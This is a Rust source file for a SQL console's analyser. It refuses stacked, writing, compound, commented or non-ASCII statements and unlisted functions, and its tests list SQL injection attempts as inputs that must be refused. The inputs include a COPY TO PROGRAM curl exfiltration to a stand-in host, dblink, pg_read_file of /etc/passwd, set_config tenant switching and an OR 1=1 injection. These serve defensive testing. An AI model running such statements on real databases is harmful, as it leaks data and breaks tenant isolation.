//! What a statement in SQL may be, and which tables the policy is asked about.
//!
//! The text is read by `sqlparser`, in PostgreSQL's dialect, and every check is of what was read. Only the text's own
//! shape is looked at as text: what no parser shows (comments), and letters that look like others, have no place in a
//! statement that somebody has to answer for.

use crate::control;
use crate::control::{Control, Controls};
use crate::wire::sql::Row;
use sqlparser::ast::{Expr, Query, SetExpr, Statement, Visit, Visitor};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;
use std::fmt;
use std::ops::ControlFlow;
use std::sync::Arc;

/// One statement at a time.
pub const ONE_STATEMENT: Control = control!(
    "console.one-statement",
    upholds: ["STO-07"],
    off: "the text is sent as a simple query, and whatever stands behind a semicolon runs as well",
);

/// A statement only reads.
pub const READ_ONLY: Control = control!(
    "console.read-only",
    upholds: ["STO-07"],
    off: "the console has the rights of the service: it changes rows, settings and files",
);

/// A statement is one plain query.
pub const PLAIN_QUERY: Control = control!(
    "console.plain-query",
    upholds: ["STO-07"],
    off: "comments, look-alike letters, UNION, subqueries and WITH are taken: what is analysed is not what a person \
          reads, and one query is several",
);

/// Only listed functions are called.
pub const FUNCTIONS: Control = control!(
    "console.functions",
    upholds: ["STO-07"],
    off: "every function of the server may be called: `set_config` takes another tenant's place, `pg_read_file` reads \
          files, `dblink` opens connections",
);

/// The policy is asked about every table that is named.
pub const POLICY_TABLES: Control = control!(
    "console.policy-tables",
    upholds: ["STO-07"],
    off: "the policy is asked whether the tenant may see its records, whatever tables the statement names",
);

/// A result has so many rows.
pub const ROW_LIMIT: Control = control!(
    "console.row-limit",
    upholds: ["STO-07"],
    off: "the console shows whatever comes: one query takes everything away",
);

/// Functions that may be called.
pub const LISTED: [&str; 8] = ["avg", "coalesce", "count", "length", "lower", "max", "min", "upper"];
/// Rows of a result, at most.
pub const ROWS_MAX: usize = 20;
/// Longest text, in bytes.
pub const TEXT_BYTES_MAX: usize = 2_000;
/// Nesting of a statement, at most.
const DEPTH_MAX: usize = 40;
/// The table whose rows the policy knows as the tenant's records.
const RECORDS: &str = "records";

/// A statement that passed.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Analysed {
    /// As what the policy is asked about it: nothing stands for the tenant's records.
    pub kind: Option<Arc<str>>,
}

/// Why a statement is refused. Codes are stable.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
pub enum Refused {
    /// It is no SQL, or is too long.
    Unread,
    /// There are several.
    Stacked,
    /// It does something other than read.
    Writes,
    /// It is no plain query.
    NotPlain,
    /// It calls a function that is not on the list.
    Function,
}

impl Refused {
    /// Stable code.
    pub const fn code(self) -> &'static str {
        match self {
            Refused::Unread => "unread",
            Refused::Stacked => "stacked",
            Refused::Writes => "writes",
            Refused::NotPlain => "not-plain",
            Refused::Function => "function",
        }
    }
}

impl fmt::Display for Refused {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Refused::Unread => "this is no statement in SQL, or a longer one than a person writes",
            Refused::Stacked => "one statement at a time",
            Refused::Writes => "a statement here only reads",
            Refused::NotPlain => "a statement here is one plain query in ASCII: no comment, UNION, WITH or subquery",
            Refused::Function => "this function is not on the list",
        })
    }
}

/// Looks at a statement.
///
/// # Errors
/// Says why it does not run.
pub fn analyse(controls: &Controls, text: &str) -> Result<Analysed, Refused> {
    if text.len() > TEXT_BYTES_MAX {
        return Err(Refused::Unread);
    }
    let parser = Parser::new(&PostgreSqlDialect {}).with_recursion_limit(DEPTH_MAX);
    let read = parser.try_with_sql(text).and_then(|mut parser| parser.parse_statements());
    let statements = read.map_err(|_| Refused::Unread)?;
    let mut seen = Seen::default();
    let _ = statements.visit(&mut seen);
    if statements.is_empty() {
        return Err(Refused::Unread);
    }
    if statements.len() > 1 && controls.on(&ONE_STATEMENT) {
        return Err(Refused::Stacked);
    }
    let reads = |statement: &Statement| matches!(statement, Statement::Query(_));
    if !statements.iter().all(reads) && controls.on(&READ_ONLY) {
        return Err(Refused::Writes);
    }
    let is_plain_text = text.is_ascii() && !text.contains("--") && !text.contains("/*");
    if (!is_plain_text || seen.is_compound) && controls.on(&PLAIN_QUERY) {
        return Err(Refused::NotPlain);
    }
    if seen.functions.iter().any(|name| !LISTED.contains(&&**name)) && controls.on(&FUNCTIONS) {
        return Err(Refused::Function);
    }
    let other = seen.tables.iter().find(|name| **name != RECORDS);
    let kind = other.filter(|_| controls.on(&POLICY_TABLES)).map(|name| format!("table:{name}").into());
    Ok(Analysed { kind })
}

/// Rows as the console shows them: one a line, and no more than there may be.
pub fn shown(controls: &Controls, rows: &[Row]) -> Vec<u8> {
    let most = if controls.on(&ROW_LIMIT) { ROWS_MAX } else { usize::MAX };
    let cell = |value: &crate::wire::sql::Value| match value {
        crate::wire::sql::Value::Null => String::new(),
        crate::wire::sql::Value::Bool(b) => b.to_string(),
        crate::wire::sql::Value::Int(n) => n.to_string(),
        crate::wire::sql::Value::Text(text) => text.to_string(),
    };
    let line = |row: &Row| row.iter().map(cell).collect::<Vec<_>>().join("\t");
    rows.iter().take(most).map(line).collect::<Vec<_>>().join("\n").into_bytes()
}

/// What a statement is made of.
#[derive(Default)]
struct Seen {
    tables: Vec<String>,
    functions: Vec<String>,
    /// Queries of the statement that is being looked at.
    queries: u32,
    is_compound: bool,
}

impl Visitor for Seen {
    type Break = ();

    fn pre_visit_statement(&mut self, _: &Statement) -> ControlFlow<()> {
        self.queries = 0;
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        self.queries += 1;
        self.is_compound |= self.queries > 1 || query.with.is_some() || !matches!(*query.body, SetExpr::Select(_));
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &sqlparser::ast::ObjectName) -> ControlFlow<()> {
        self.tables.push(relation.to_string().to_ascii_lowercase());
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        if let Expr::Function(function) = expr {
            self.functions.push(function.name.to_string().to_ascii_lowercase());
        }
        ControlFlow::Continue(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim::ControlSet;

    fn says(controls: &Controls, text: &str) -> String {
        match analyse(controls, text) {
            Ok(Analysed { kind }) => kind.map_or_else(|| "records".into(), |kind| kind.to_string()),
            Err(refused) => refused.code().into(),
        }
    }

    #[test]
    fn a_plain_query_passes_and_every_trick_is_refused_by_its_name() {
        let on = Controls::all_on();
        for (text, expected) in [
            ("SELECT id, body FROM records WHERE id < 3 ORDER BY id LIMIT 5", "records"),
            ("SELECT count(*) FROM Records", "records"),
            ("SELECT request FROM request_log", "table:request_log"),
            ("SELECT rolname FROM pg_catalog.pg_roles", "table:pg_catalog.pg_roles"),
            ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a text)", "table:dblink"),
            ("SELECT 1; SELECT 2", "stacked"),
            ("SELECT body FROM records; SET app.tenant_id = 'beta'; SELECT body FROM records", "stacked"),
            ("DELETE FROM records", "writes"),
            ("COPY records TO PROGRAM 'curl -d @- evil'", "writes"),
            ("SET app.tenant_id = 'beta'", "writes"),
            ("SELECT body FROM records UNION SELECT body FROM records", "not-plain"),
            ("SELECT body FROM records WHERE id = (SELECT min(id) FROM records)", "not-plain"),
            ("WITH r AS (SELECT 1) SELECT 1", "not-plain"),
            ("SELECT/**/body FROM records", "not-plain"),
            ("SELECT body FROM records -- ; x", "not-plain"),
            ("SELECT body FROM records WHERE body = '\u{ff07} OR 1=1'", "not-plain"),
            ("SELECT pg_read_file('/etc/passwd')", "function"),
            ("SELECT set_config('app.tenant_id', 'beta', false)", "function"),
            ("SELECT body FROM records WHERE pg_sleep(10) IS NULL", "function"),
            ("", "unread"),
            ("SELEKT", "unread"),
        ] {
            assert_eq!(says(&on, text), expected, "{text}");
        }
    }

    #[test]
    fn without_one_check_the_others_stand() {
        let off = |control: &Control| Controls::with_off(ControlSet::EMPTY.with(control.slot));
        for (control, text) in [
            (&ONE_STATEMENT, "SELECT body FROM records; SELECT body FROM records"),
            (&READ_ONLY, "UPDATE records SET label = label WHERE id = 1"),
            (&PLAIN_QUERY, "SELECT/**/body FROM records"),
            (&FUNCTIONS, "SELECT set_config('app.tenant_id', 'beta', true)"),
            (&POLICY_TABLES, "SELECT request FROM request_log"),
        ] {
            assert_ne!(says(&Controls::all_on(), text), "records", "{text}");
            assert_eq!(says(&off(control), text), "records", "{text}");
        }
    }
}
